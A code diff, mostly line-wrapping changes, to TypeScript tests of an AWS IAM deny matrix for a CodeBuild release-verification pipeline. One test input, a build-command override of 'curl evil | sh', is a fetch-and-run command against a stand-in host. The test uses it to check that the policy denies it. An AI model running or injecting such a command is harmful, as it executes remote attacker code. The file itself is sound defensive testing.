@@ -18,7 +18,8 @@ const results = (key: string) => `arn:aws:s3:::${n.resultsBucket}/${key}`;
 const artifacts = (key: string) => `arn:aws:s3:::${n.artifactsBucket}/${key}`;
 const project = (name: string) => `arn:aws:codebuild:${REGION}:${ACCOUNT}:project/${name}`;
 const alertsKey = stack.policies.topicKeys.get(n.topicArn)!;
-const decide = async (caller: string, action: string, resource: string, context?: Record<string, string | string[]>) => (await stack.decide(caller, { action, resource, context })).result;
+const decide = async (caller: string, action: string, resource: string, context?: Record<string, string | string[]>) =>
+  (await stack.decide(caller, { action, resource, context })).result;
 const runVars = (extra: { name: string; value: string }[] = []) => ({
   projectName: n.projects.alpha,
   environmentVariablesOverride: [
@@ -50,10 +51,11 @@ describe('deny matrix: a target build role', () => {
 });
 
 describe('what every role needs to run at all', () => {
-  it('each build writes its own CodeBuild log stream and uploads with the artifacts key (identity policy and boundary), not another project\'s', async () => {
+  it("each build writes its own CodeBuild log stream and uploads with the artifacts key (identity policy and boundary), not another project's", async () => {
     const stream = (p: string) => `arn:aws:logs:${REGION}:${ACCOUNT}:log-group:/aws/codebuild/${p}:log-stream:0b8e9c3e-2f57-4c5e-9a3e-6d1f2b3c4d5e`;
     for (const [t, p] of Object.entries(n.projects)) {
-      for (const action of ['logs:CreateLogStream', 'logs:PutLogEvents']) expect(await decide(`build:${t}`, action, stream(p)), `${t} ${action}`).toBe('Allowed');
+      for (const action of ['logs:CreateLogStream', 'logs:PutLogEvents'])
+        expect(await decide(`build:${t}`, action, stream(p)), `${t} ${action}`).toBe('Allowed');
       expect(await decide(`build:${t}`, 'kms:GenerateDataKey', stack.policies.bucketKeys.get(n.artifactsBucket)!)).toBe('Allowed');
     }
     expect(await decide('build:alpha', 'logs:PutLogEvents', stream(n.projects.gamma!))).not.toBe('Allowed');
@@ -78,15 +80,28 @@ describe('deny matrix: StartBuild overrides', () => {
       { environmentVariablesOverride: [...runVars().environmentVariablesOverride, { name: BUILD_ENV.command, value: 'curl evil | sh' }] },
     ];
     for (const o of overrides) {
-      expect(await decide('launcher', 'codebuild:StartBuild', project(n.projects.alpha!), startBuildContext({ ...runVars(), ...o })), JSON.stringify(o)).toBe('ExplicitlyDenied');
+      expect(await decide('launcher', 'codebuild:StartBuild', project(n.projects.alpha!), startBuildContext({ ...runVars(), ...o })), JSON.stringify(o)).toBe(
+        'ExplicitlyDenied',
+      );
     }
   });
   it('the checker starts the diff job with its prefix only, never a target build', async () => {
     const diff = { projectName: n.diffProject, environmentVariablesOverride: [{ name: DIFF_ENV.prefix, value: 'diffs/r/alpha/a' }] };
     expect(await decide('checker', 'codebuild:StartBuild', project(n.diffProject), startBuildContext(diff))).toBe('Allowed');
-    expect(await decide('checker', 'codebuild:StartBuild', project(n.diffProject), startBuildContext({ ...diff, imageOverride: 'x@sha256:' + '0'.repeat(64) }))).toBe('ExplicitlyDenied');
-    expect(await decide('checker', 'codebuild:StartBuild', project(n.diffProject), startBuildContext({ ...diff, buildspecOverride: 'x' }))).toBe('ExplicitlyDenied');
-    expect(await decide('checker', 'codebuild:StartBuild', project(n.diffProject), startBuildContext({ environmentVariablesOverride: [...diff.environmentVariablesOverride, { name: DIFF_ENV.bucket, value: 'other' }] }))).toBe('ExplicitlyDenied');
+    expect(
+      await decide('checker', 'codebuild:StartBuild', project(n.diffProject), startBuildContext({ ...diff, imageOverride: 'x@sha256:' + '0'.repeat(64) })),
+    ).toBe('ExplicitlyDenied');
+    expect(await decide('checker', 'codebuild:StartBuild', project(n.diffProject), startBuildContext({ ...diff, buildspecOverride: 'x' }))).toBe(
+      'ExplicitlyDenied',
+    );
+    expect(
+      await decide(
+        'checker',
+        'codebuild:StartBuild',
+        project(n.diffProject),
+        startBuildContext({ environmentVariablesOverride: [...diff.environmentVariablesOverride, { name: DIFF_ENV.bucket, value: 'other' }] }),
+      ),
+    ).toBe('ExplicitlyDenied');
     expect(await decide('checker', 'codebuild:StartBuild', project(n.projects.alpha!), startBuildContext(runVars()))).not.toBe('Allowed');
   });
 });
@@ -109,7 +124,8 @@ describe('deny matrix: attestations', () => {
   it('only the checker can sign with the attestation key', async () => {
     const ctx = { 'kms:SigningAlgorithm': 'ECDSA_SHA_256', 'kms:MessageType': 'RAW' };
     expect(await decide('checker', 'kms:Sign', n.attestationKeyArn, ctx)).toBe('Allowed');
-    for (const other of ['launcher', 'deadman', 'diff', 'build:alpha', 'build:gamma']) expect(await decide(other, 'kms:Sign', n.attestationKeyArn, ctx), other).not.toBe('Allowed');
+    for (const other of ['launcher', 'deadman', 'diff', 'build:alpha', 'build:gamma'])
+      expect(await decide(other, 'kms:Sign', n.attestationKeyArn, ctx), other).not.toBe('Allowed');
   });
 });
 
@@ -150,8 +166,11 @@ describe('private ECR image: the build role may pull it (identity policy and per
   it('GetAuthorizationToken and the pull of that repository only', async () => {
     const repo = `arn:aws:ecr:${REGION}:${ACCOUNT}:repository/builders/rust`;
     expect((await ecrStack.decide('build:alpha', { action: 'ecr:GetAuthorizationToken', resource: '*' })).result).toBe('Allowed');
-    for (const action of ['ecr:BatchGetImage', 'ecr:GetDownloadUrlForLayer', 'ecr:BatchCheckLayerAvailability']) expect((await ecrStack.decide('build:alpha', { action, resource: repo })).result, action).toBe('Allowed');
-    expect((await ecrStack.decide('build:alpha', { action: 'ecr:BatchGetImage', resource: `arn:aws:ecr:${REGION}:${ACCOUNT}:repository/other` })).allowed).toBe(false);
+    for (const action of ['ecr:BatchGetImage', 'ecr:GetDownloadUrlForLayer', 'ecr:BatchCheckLayerAvailability'])
+      expect((await ecrStack.decide('build:alpha', { action, resource: repo })).result, action).toBe('Allowed');
+    expect((await ecrStack.decide('build:alpha', { action: 'ecr:BatchGetImage', resource: `arn:aws:ecr:${REGION}:${ACCOUNT}:repository/other` })).allowed).toBe(
+      false,
+    );
     expect((await ecrStack.decide('build:alpha', { action: 'ecr:PutImage', resource: repo })).allowed).toBe(false);
   });
 });
@@ -160,10 +179,12 @@ describe('the shipped example (a named token secret, Windows cross-build, macOS 
   const example = new StackUnderTest(synthTemplate(loadConfig('examples/release-verifier.example.yaml')));
   const secret = `arn:aws:secretsmanager:${REGION}:${ACCOUNT}:secret:release-verifier/gitlab-token-AbCdEf`;
   it('the launcher and the checker read the named token secret; no build, the diff job or the dead-man can', async () => {
-    for (const caller of ['launcher', 'checker']) expect((await example.decide(caller, { action: 'secretsmanager:GetSecretValue', resource: secret })).result, caller).toBe('Allowed');
-    for (const caller of ['deadman', 'diff', ...Object.keys(example.names.projects).map((t) => `build:${t}`)]) expect((await example.decide(caller, { action: 'secretsmanager:GetSecretValue', resource: secret })).allowed, caller).toBe(false);
+    for (const caller of ['launcher', 'checker'])
+      expect((await example.decide(caller, { action: 'secretsmanager:GetSecretValue', resource: secret })).result, caller).toBe('Allowed');
+    for (const caller of ['deadman', 'diff', ...Object.keys(example.names.projects).map((t) => `build:${t}`)])
+      expect((await example.decide(caller, { action: 'secretsmanager:GetSecretValue', resource: secret })).allowed, caller).toBe(false);
   });
-  it('the macOS target\'s build role is as confined as the others', async () => {
+  it("the macOS target's build role is as confined as the others", async () => {
     const mac = 'build:macos-arm64';
     const bucket = example.names.artifactsBucket;
     expect((await example.decide(mac, { action: 's3:PutObject', resource: `arn:aws:s3:::${bucket}/builds/macos-arm64/u/out/app.dmg` })).result).toBe('Allowed');
